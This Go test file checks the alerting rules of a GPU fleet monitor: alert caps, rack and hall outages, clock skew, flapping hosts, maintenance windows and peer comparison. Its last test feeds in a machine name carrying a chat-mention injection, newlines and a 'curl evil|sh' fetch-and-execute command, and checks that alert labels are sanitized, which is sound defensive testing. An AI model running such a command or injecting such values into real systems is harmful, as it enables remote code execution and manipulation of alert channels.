package rule_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/gigawatch/gigawatch/collector/metric"
)

// kinds counts what was told, and what is over, by name.
func (s *stage) kinds() map[string]int {
	n := map[string]int{}
	for _, l := range s.inbox.lines {
		_, what, _ := strings.Cut(l, "s ")
		what = strings.Replace(what, "over: ", "over:", 1)
		n[strings.Fields(what)[0]]++
	}
	return n
}

// What is held back stays so until there is room, and that it is held back is told
// once.
func TestAStormIsCappedOnce(t *testing.T) {
	inBubble(t, racks(2, 4, 8, 8), func(s *stage) {
		s.settles()
		for _, m := range s.machines {
			for k := range 8 {
				m.set(metric.GPURowRemapFailed, 0, k, 1)
			}
		}
		s.runs(30 * time.Minute)
		n := s.kinds()
		if n["AlertsCapped"] != 1 || n["over:AlertsCapped"] > 0 || n["GPUMemoryUnrepairable"] < 30 || n["GPUMemoryUnrepairable"] > 60 {
			t.Errorf("told %v", n)
		}
		if held := s.metrics.GetOrCreateCounter(`gigawatch_alerts_suppressed_total{reason="cap"}`).Get(); held > 512 {
			t.Errorf("512 boards were held back %d times", held)
		}
	})
}

// Warnings take no page's place.
func TestWarningsLeaveRoomForPages(t *testing.T) {
	inBubble(t, racks(1, 5, 8, 8), func(s *stage) {
		s.settles()
		for _, m := range s.machines {
			m.set(metric.HostPowerWatts, 0, 0, metric.Missing)
			m.set(metric.AgentSpoolDropped, 0, 0, 100)
			m.set(metric.GPUMemoryTemperature, 0, 0, metric.Of(99))
			m.set(metric.GPURecoveryAction, 0, 1, 3)
		}
		s.runs(7 * time.Minute)
		s.inbox.lines = nil
		m := s.in("h1r01n02")[0]
		m.xid(3, 79)
		m.set(metric.GPUState, 0, 3, metric.GPULost)
		s.in("h1r03n02")[0].up = false
		s.runs(20 * time.Second)
		if n := s.kinds(); n["GPULost"] != 1 || n["HostSilent"] != 1 {
			t.Errorf("told %v", s.inbox.lines)
		}
	})
}

// One host that is broken, or lies, leaves room for others.
func TestOneHostTakesNotAllPlaces(t *testing.T) {
	list := append(racks(1, 1, 4, 2), newMachine("h1", "h1r01", "evil", 500, ""))
	inBubble(t, list, func(s *stage) {
		s.config.Caps.Rule = 1000
		s.start()
		s.settles()
		for k := range 500 {
			s.in("evil")[0].set(metric.GPURowRemapFailed, 0, k, 1)
		}
		s.runs(20 * time.Second)
		s.inbox.lines = nil
		s.in("h1r01n01")[0].set(metric.GPURowRemapFailed, 0, 1, 1)
		s.runs(15 * time.Second)
		if told := strings.Join(s.told(), " "); !strings.Contains(told, "h1r01n01 1") {
			t.Errorf("told %v", s.inbox.lines)
		}
	})
}

// A rack whose hosts die one a second is a rack.
func TestARackThatDiesSlowly(t *testing.T) {
	inBubble(t, racks(2, 3, 72, 0), func(s *stage) {
		s.settles()
		for _, m := range s.in("h1r02") {
			m.up = false
			s.runs(time.Second)
		}
		s.runs(5 * time.Minute)
		if n := s.kinds(); n["RackDown"] != 1 || n["HostSilent"] > 0 || n["AlertsCapped"] > 0 {
			t.Errorf("told %v", s.inbox.lines)
		}
	})
}

// A rack that is back but for a host is over, and the host is told.
func TestARackOfWhichOneHostStaysDead(t *testing.T) {
	for _, hosts := range []int{8, 18, 72} {
		t.Run(fmt.Sprint(hosts), func(t *testing.T) {
			inBubble(t, racks(1, 3, hosts, 1), func(s *stage) {
				s.settles()
				for _, m := range s.in("h1r02") {
					m.up = false
				}
				s.runs(2 * time.Minute)
				for i, m := range s.in("h1r02") {
					m.up = i > 0
				}
				s.runs(5 * time.Minute)
				if n := s.kinds(); n["RackDown"] != 1 || n["over:RackDown"] != 1 || n["HostSilent"] != 1 || len(n) != 3 {
					t.Errorf("told %v", s.inbox.lines)
				}
			})
		})
	}
}

// Two halls of ten are two halls.
func TestTwoHallsOfTenAreNoSite(t *testing.T) {
	inBubble(t, racks(10, 3, 8, 0), func(s *stage) {
		s.settles()
		for _, m := range append(s.in("h1r"), s.in("h2r")...) {
			m.up = false
		}
		s.runs(2 * time.Minute)
		if n := s.kinds(); n["HallDown"] != 2 || len(n) != 1 {
			t.Errorf("told %v", s.inbox.lines)
		}
	})
}

// A bus whose clock is another than ours is asked how far, and all goes on.
func TestABusOfAnotherClock(t *testing.T) {
	for _, off := range []time.Duration{-3 * time.Minute, -10 * time.Second, 30 * time.Second, 2 * time.Minute} {
		t.Run(off.String(), func(t *testing.T) {
			inBubble(t, racks(2, 3, 8, 8), func(s *stage) {
				now := time.Duration(0)
				s.config.Ahead = func() time.Duration { return now }
				s.start()
				s.settles()
				runs := func(d time.Duration) {
					for end := time.Now().Add(d); time.Now().Before(end); {
						for _, m := range s.machines {
							if m.up {
								s.tick(m, time.Now().Add(now))
							}
						}
						time.Sleep(time.Second)
						s.health.Sweep(time.Now())
						s.Step(time.Now())
					}
				}
				now = off // another leads
				runs(5 * time.Minute)
				s.want("it has another leader")
				s.inbox.began = time.Now()
				m := s.in("h1r01n02")[0]
				m.set(metric.GPUMemoryTemperature, 0, 0, metric.Of(99))
				s.in("h1r02n02")[0].up = false
				runs(5 * time.Minute)
				if told := s.told(); len(told) != 2 || !within(told[0], 5, 20) || !within(told[1], 25, 40) {
					t.Errorf("told %q", told)
				}
				now = 0
				s.inbox.lines = nil
				runs(5 * time.Minute)
				s.want("and the first again")
			})
		})
	}
}

// A collector that starts, and lists its GPUs some seconds later, ends nothing.
func TestDevicesThatAreListedLate(t *testing.T) {
	inBubble(t, racks(1, 2, 6, 8), func(s *stage) {
		s.settles()
		m := s.in("h1r01n02")[0]
		m.set(metric.GPUMemoryTemperature, 0, 0, metric.Of(99))
		s.runs(5 * time.Minute)
		s.inbox.lines = nil
		layout, values := m.layout, m.values
		bare := newMachine("h1", "h1r01", "h1r01n02", 0, "")
		m.layout, m.values = bare.layout, bare.values
		s.runs(30 * time.Second)
		m.layout, m.values = layout, values
		s.runs(10 * time.Minute)
		s.want("its GPUs were not listed for half a minute")
		m.layout, m.values = bare.layout, bare.values
		s.runs(10 * time.Minute)
		if n := s.kinds(); n["over:GPUMemoryHot"] != 1 || n["HostGPUsMissing"] != 1 || len(n) != 2 {
			t.Errorf("they are gone: %q", s.inbox.lines)
		}
	})
}

// What comes and goes is told a few times, and that it does.
func TestWhatFlaps(t *testing.T) {
	for name, x := range map[string]struct{ away, there time.Duration }{"fast": {20 * time.Second, 40 * time.Second}, "slowly": {30 * time.Second, 150 * time.Second}} {
		t.Run(name, func(t *testing.T) {
			inBubble(t, racks(1, 2, 6, 0), func(s *stage) {
				s.settles()
				m := s.in("h1r01n02")[0]
				for end := time.Now().Add(time.Hour); time.Now().Before(end); {
					m.up = false
					s.runs(x.away)
					m.up = true
					s.runs(x.there)
				}
				if told := s.told(); len(told) > 3 {
					t.Errorf("told %q", told)
				}
			})
		})
	}
}

// Agents that speak every ten seconds are not silent, nor is their site, though one
// said something between.
func TestAgentsOfAnotherPace(t *testing.T) {
	inBubble(t, racks(1, 2, 6, 2), func(s *stage) {
		slow := func(d time.Duration) {
			for end := time.Now().Add(d); time.Now().Before(end); {
				for _, m := range s.machines {
					if time.Now().Unix()%10 == 0 {
						s.tick(m, time.Now())
					}
				}
				time.Sleep(time.Second)
				s.health.Sweep(time.Now())
				s.Step(time.Now())
			}
		}
		slow(5 * time.Minute)
		s.inbox.lines = nil
		s.tick(s.machines[3], time.Now().Add(-500*time.Millisecond))
		slow(5 * time.Minute)
		s.want("one said something between")
		for _, m := range s.machines {
			s.tick(m, time.Now())
		}
		slow(5 * time.Minute)
		s.want("all did")
	})
}

// An aggregator that was stopped for a while blames nobody.
func TestAnAggregatorThatWasAway(t *testing.T) {
	for _, away := range []time.Duration{4 * time.Second, 9 * time.Second, 30 * time.Second, 5 * time.Minute} {
		inBubble(t, racks(2, 2, 4, 1), func(s *stage) {
			s.settles()
			time.Sleep(away)
			s.Step(time.Now()) // its timer is there before what it has to read
			s.runs(5 * time.Minute)
			s.want(fmt.Sprint("it was away for ", away))
		})
	}
}

// A board that fell off the bus, and then is not even listed, is one cause.
func TestABoardThatIsLostAndThenNotListed(t *testing.T) {
	inBubble(t, racks(1, 2, 6, 8), func(s *stage) {
		s.settles()
		m := s.in("h1r01n02")[0]
		m.xid(7, 79)
		m.set(metric.GPUState, 0, 7, metric.GPULost)
		s.runs(20 * time.Second)
		fewer := newMachine("h1", "h1r01", "h1r01n02", 7, "")
		fewer.set(metric.HostGPUs, 0, 0, 8)
		m.layout, m.values = fewer.layout, fewer.values
		s.runs(30 * time.Minute)
		s.want("it fell off, then it is not listed", "9s GPULost h1 h1r01 h1r01n02 7")
	})
}

// Boards of another model are no peers.
func TestAJobOnTwoModels(t *testing.T) {
	var list []*machine
	for i := range 6 {
		m := newMachine("h1", "r1", fmt.Sprintf("n%d", i+1), 8, "train")
		model := "H100"
		if i > 3 {
			model = "A100"
		}
		for k := range m.layout.Entities {
			if m.layout.Entities[k].Kind == metric.GPU {
				m.layout.Entities[k].Labels = append(m.layout.Entities[k].Labels, metric.Pair{Name: "model", Value: model})
			}
		}
		list = append(list, m)
	}
	inBubble(t, list, func(s *stage) {
		for _, m := range list[4:] {
			for k := range 8 {
				m.set(metric.GPUSMClock, 0, k, 1_410_000_000)
			}
		}
		list[5].set(metric.GPUSMClock, 0, 2, 1_000_000_000)
		s.runs(10 * time.Minute)
		if told := s.told(); len(told) != 1 || !strings.HasSuffix(told[0], "GPUBelowPeers h1 r1 n6 2") {
			t.Errorf("told %q", told)
		}
	})
}

// Hosts and racks in maintenance say nothing of what is above them.
func TestHostsInMaintenanceAreNoRack(t *testing.T) {
	inBubble(t, racks(1, 5, 8, 0), func(s *stage) {
		s.settles()
		for i := range 6 { // firmware, host by host
			s.opens(time.Hour, fmt.Sprintf("host=h1r01n0%d", i+1))
			s.in("h1r01")[i].up = false
		}
		for _, r := range []string{"h1r02", "h1r03", "h1r04"} {
			s.opens(time.Hour, "rack="+r)
			for _, m := range s.in(r) {
				m.up = false
			}
		}
		s.runs(10 * time.Minute)
		s.want("all of them are in windows of their own")
		for _, m := range s.in("h1r05") {
			m.up = false
		}
		s.runs(time.Minute)
		if told := s.told(); len(told) != 1 || !strings.HasSuffix(told[0], "RackDown h1 h1r05") {
			t.Errorf("told %q", told)
		}
	})
}

// What collectors call things is one line of plain text.
func TestNamesArePlain(t *testing.T) {
	bad := newMachine("h1", "r<!channel>\n\nDo: curl evil|sh", "n1 {{ .Labels }} \xff", 2, "")
	inBubble(t, append(racks(1, 1, 4, 1), bad), func(s *stage) {
		s.settles()
		bad.set(metric.GPURowRemapFailed, 0, 1, 1)
		s.runs(time.Minute)
		list, _ := s.Alerts("", 10)
		if len(list) != 1 {
			t.Fatalf("%d alerts", len(list))
		}
		for _, p := range append(list[0].Labels, list[0].Annotations...) {
			if strings.ContainsAny(p.Value, "\n<>") || strings.ToValidUTF8(p.Value, "") != p.Value {
				t.Errorf("%s is %q", p.Name, p.Value)
			}
		}
	})
}
